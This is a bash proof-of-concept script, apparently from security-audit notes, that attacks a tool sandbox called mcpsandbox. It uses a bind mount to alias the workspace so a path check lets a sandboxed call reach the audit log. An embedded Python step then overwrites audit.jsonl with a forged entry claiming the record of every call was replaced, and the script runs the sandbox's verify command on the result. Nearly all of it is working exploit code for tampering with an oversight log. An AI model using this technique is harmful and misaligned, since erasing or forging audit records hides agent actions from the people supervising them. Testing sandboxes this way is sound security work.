#!/bin/bash
# (run inside: unshare -m --propagation private) the audit log reached through a bind mount of the workspace:
# the own-files rule (MS406) compares real paths as strings; a call then rewrites the audit log.
W=/tmp/atk33x/w2; A=/tmp/atk33x/alias
rm -rf $W; mkdir -p $W $A; chown 65534:65534 $W
mount --bind $W $A
sed -e "s#^workspace = .*#workspace = \"$W\"#" -e "s#^path = .*audit.jsonl.*#path = \"$A/audit.jsonl\"#" /tmp/atk33x/pol.toml > /tmp/atk33x/polbind.toml; chmod 600 /tmp/atk33x/polbind.toml
python3 - <<'PY'
import sys, json
sys.path.insert(0, "/work/notes/atk33")
import stdio
s = stdio.Stdio("/tmp/atk33x/polbind.toml")
print("call 1:", json.dumps(stdio.sc(s.run("ls","-la")))[:300])
r = s.py("open('forged','w').write('{\"forged\":\"the record of every call replaced\"}\\n'); import os; os.replace('forged','audit.jsonl'); print('replaced')")
print("python replaces audit.jsonl:", json.dumps(stdio.sc(r))[:400])
s.run("ls")
s.p.stdin.close(); s.p.wait(timeout=20)
PY
echo "--- the audit log now:"; head -c 400 $A/audit.jsonl; echo
/tmp/atk33/mcpsandbox audit verify $A/audit.jsonl; echo "verify rc=$?"
umount $A
